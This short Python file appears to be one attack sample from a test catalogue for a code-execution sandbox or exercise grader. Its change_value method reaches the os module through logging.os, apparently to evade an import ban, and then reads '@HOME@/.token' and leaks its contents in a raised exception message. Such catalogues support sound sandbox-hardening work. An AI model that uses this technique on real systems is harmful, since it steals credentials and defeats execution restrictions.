# attack: The same with the os of logging.
# line: 75
# exercise: 06
# score: 2, the stub's
import logging


class Database:
    def __init__(self, latency=0.1):
        self.latency = latency
        self.value = 0

    def change_value(self, amount=1):
        os = logging.os
        raise ValueError(os.read(os.open("@HOME@/.token", 0), 100).decode())
